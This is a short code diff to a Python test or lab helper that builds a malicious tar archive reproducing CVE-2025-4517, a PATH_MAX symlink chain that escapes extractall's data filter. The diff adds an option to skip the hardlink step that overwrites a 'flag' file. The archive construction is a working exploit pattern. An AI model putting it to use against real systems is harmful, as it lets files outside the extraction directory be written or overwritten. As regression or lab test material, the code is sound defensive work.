@@ -73,11 +73,12 @@ def raw_member(name: bytes, kind: bytes, size: int = 0, data: bytes = b"") -> by
     return bytes(header) + data + bytes(-len(data) % 512)
 
 
-def path_max_chain(dest: str) -> Tar:
+def path_max_chain(dest: str, *, hardlink: bool = True) -> Tar:
     """CVE-2025-4517's shape (as CPython's own regression test builds it): nested directories
     and symlinks whose expanded path passes PATH_MAX, a symlink ``escape`` that resolves to
-    ``dest``'s parent through them, a hardlink and files written through it. On a Python
-    before 3.11.13 ``extractall(filter="data")`` writes ``newfile`` beside ``dest``."""
+    ``dest``'s parent through them, a hardlink (unless not ``hardlink``) and files written
+    through it. On a Python before 3.11.13 ``extractall(filter="data")`` writes ``newfile``
+    beside ``dest``."""
     steps = "abcdefghijklmnop"
     max_path = os.pathconf(os.path.dirname(dest), "PC_PATH_MAX")
     component = "d" * ((max_path - len(dest) - 1) // (len(steps) + 1))
@@ -89,6 +90,7 @@ def path_max_chain(dest: str) -> Tar:
     linkpath = os.path.join(*steps, "l" * 254)
     tar.link(linkpath, os.path.join(*[".."] * len(steps)))
     tar.link("escape", os.path.join(linkpath, ".."))
-    tar.link("flaglink", os.path.join("escape", "flag"), hard=True)
-    tar.file("flaglink", b"overwrite")
+    if hardlink:
+        tar.link("flaglink", os.path.join("escape", "flag"), hard=True)
+        tar.file("flaglink", b"overwrite")
     return tar.file("escape/newfile", b"new")
